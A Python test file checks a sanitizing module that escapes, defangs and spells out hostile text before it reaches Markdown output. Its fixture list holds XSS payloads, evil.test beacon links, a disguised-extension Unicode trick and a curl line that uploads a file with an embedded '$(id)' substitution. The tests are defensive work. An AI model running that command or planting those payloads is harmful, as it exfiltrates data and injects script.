"""Hostile text stays text: in Markdown as two renderers show it, in titles, in code."""

import re
from collections.abc import Callable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from exfilwatch_playbooks.hostile import code, cut, defang, fence, line, prose, visible

from .rendered import RENDERERS, Page, commonmark

NASTY = [
    "[click](http://evil.test/x)",
    "![beacon](http://evil.test/x.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "<?php ?><!DOCTYPE x><![CDATA[x]]>",
    "http://evil.test/ and www.evil.test and <http://evil.test>",
    "www.(//evil.test) http://a.(javascript:x)",
    "_http://evil.test_ *www.evil.test*",
    "a@evil.test <a@evil.test>",
    "[x]: http://evil.test",
    "[x][y] [.] [:]",
    "# heading\n## another\n\nsetext\n===\n\n---",
    "- item\n1. item\n> quote",
    "`code` ``more`` ```\nfence\n```",
    "~~~\nfence\n~~~",
    "\\`escaped\\` \\*x\\* \\",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** __bold__ *it* _it_ ~~gone~~ ^sup^",
    "{{macro}} {: .class } [TOC] [^1] :smile: $x$",
    "C:\\Users\\*\\PROGRA~1\\<x>\\",
    "curl -F 'f=@a.txt' http://x/ `$(id)`",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03",
    "\u202egnp.exe\u202c \u200b\ufeff\ud800\x00\x1b[31m\r\n\t\x85\u2028",
    " ",
    "",
    "`",
    "    indented",
]
# What Markdown is made of, in pieces that random text would never hit.
_PIECES = [
    *"`*_~[]()<>!#|\\&:/@.-+=^{}\"' \n\t\r01ab",
    "http://",
    "www.",
    "```",
    "\n\n",
    "x.y",
    "](",
    "<b>",
    "&lt;",
    "\u202e",
]
hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.lists(st.sampled_from(_PIECES), max_size=25).map("".join),
    st.text(max_size=40),
)
renderers = pytest.mark.parametrize("render", RENDERERS, ids=lambda render: render.__name__)
Render = Callable[[str], Page]


def flat(text: str) -> str:
    """Tabs and runs of spaces as one space: HTML shows them so."""
    return " ".join(text.split())


@renderers
@given(text=hostile_text)
def test_prose_is_shown_as_it_is_and_makes_no_markup(render, text):
    page = render(f"Host {prose(text)} and user {prose(text)} did it.")
    shown = defang(visible(text))
    assert set(page.tags) <= {"p"}
    assert flat("".join(page.texts["p"])) == flat(f"Host {shown} and user {shown} did it.")


@renderers
@given(text=hostile_text)
def test_a_code_span_holds_exactly_the_visible_text(render, text):
    page = render(f"Ran {code(text)} once, {code(text)} twice.")
    assert page.tags == {"p": 1, "code": 2}
    shown = visible(text) or " "
    assert [as_shown(render, each) for each in page.texts["code"]] == 2 * [as_shown(render, shown)]


@renderers
@given(text=hostile_text)
@example(text="```\n# out\n```")
@example(text="````\n~~~\n```")
@example(text="\n\n\n<b>\n")
def test_a_fence_holds_exactly_the_visible_text(render, text):
    page = render(f"Before.\n\n{fence(text)}\n\nAfter.")
    assert page.tags == {"p": 2, "pre": 1, "code": 1}
    shown = visible(text.replace("\r\n", "\n"), keep="\n\t")
    assert as_shown(render, page.texts["code"][0]) == as_shown(render, shown)


def as_shown(render: Render, text: str) -> str:
    """The classic renderer drops space at both ends and on empty lines, expands tabs, and completes `&#1` to `&#1;`."""
    if render is commonmark:
        return text.strip("\n")
    lines = [line.expandtabs(4) if line.strip() else "" for line in re.sub(r"(&#\w*);?", r"\1", text).split("\n")]
    return "\n".join(lines).strip()


@renderers
@pytest.mark.parametrize("text", NASTY)
def test_a_table_cell_stays_one_cell(render, text):
    page = render(f"| a | b |\n|---|---|\n| {prose(text)} | x |\n")
    assert (page.tags["td"], set(page.tags)) == (2, {"table", "thead", "tbody", "tr", "th", "td"})


@given(text=hostile_text)
def test_a_line_is_one_line_without_anything_that_can_be_clicked(text):
    shown = line(text)
    assert shown.isprintable()
    assert not any(each in shown.lower() for each in ("http:", "https:", "www.", "\x1b"))
    assert "://" not in shown.lower().replace("xxp://", "").replace("xxps://", "").replace("fxp://", "").replace(
        "fxps://", ""
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("http://evil.test/a.b?c=d.e", "hxxp://evil[.]test/a.b?c=d.e"),
        ("HTTPS://user@evil.test:8443/", "HxxPS://user@evil[.]test:8443/"),
        ("ftp://1.2.3.4/x sftp://h.test ftps://h.test", "fxp://1[.]2[.]3[.]4/x sfxp://h[.]test fxps://h[.]test"),
        ("smb://srv.test/share", "smb[:]//srv[.]test/share"),
        ("_http://evil.test", "_hxxp://evil[.]test"),
        ("https:evil.test", "hxxps:evil.test"),
        ("www.evil.test WWW.evil.test", "www[.]evil.test WWW[.]evil.test"),
        ("10.0.0.1:443", "10.0.0[.]1:443"),
        ("version 1.2.3.4.5", "version 1.2.3.4.5"),
        ("[2001:db8::1]:443", "[2001[:]db8::1]:443"),
        ("fe80::1", "fe80[:]:1"),
        ("12:30:45", "12:30:45"),
        ("C:\\Users\\anna", "C:\\Users\\anna"),
    ],
)
def test_urls_and_addresses_are_defanged(text, expected):
    assert defang(text) == expected
    assert defang(expected) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain text", "plain text"),
        ("Grüße, 東京, привет, 🙂", "Grüße, 東京, привет, 🙂"),
        ("exe.\u202egnp", "exe.\\u202egnp"),
        ("a\x00b\x1b[2Jc", "a\\x00b\\x1b[2Jc"),
        ("line\r\nfeed\ttab", "line\\r\\nfeed\\ttab"),
        ("\ud800", "\\ud800"),
        ("a\u00a0b\u2003c\u3000d", "a\\xa0b\\u2003c\\u3000d"),
        ("a\u200bb\ufeffc\u2060d", "a\\u200bb\\ufeffc\\u2060d"),
        ("\u3164\u2800\ufe0f\U000e0101", "\\u3164\\u2800\\ufe0f\\U000e0101"),
    ],
)
def test_what_hides_or_moves_text_is_spelled_out(text, expected):
    assert visible(text) == expected


@given(text=hostile_text, limit=st.integers(1, 30))
def test_what_is_cut_is_never_longer_than_its_limit_and_says_how_much_is_gone(text, limit):
    shown, remark = cut(text, limit)
    assert len(shown) <= limit
    assert visible(text).startswith(shown)
    assert (remark == "") == (shown == visible(text))


def test_a_cut_text_counts_what_was_written_not_what_is_shown():
    assert cut("\u202e" * 10, 20) == ("\\u202e" * 3, " … (7 characters cut)")
    assert code("x" * 5000, 10) == "`xxxxxxxxxx` … (4,990 characters cut)"
    assert fence("x" * 12, limit=10) == "```text\nxxxxxxxxxx\n```\n\n(2 characters cut)"
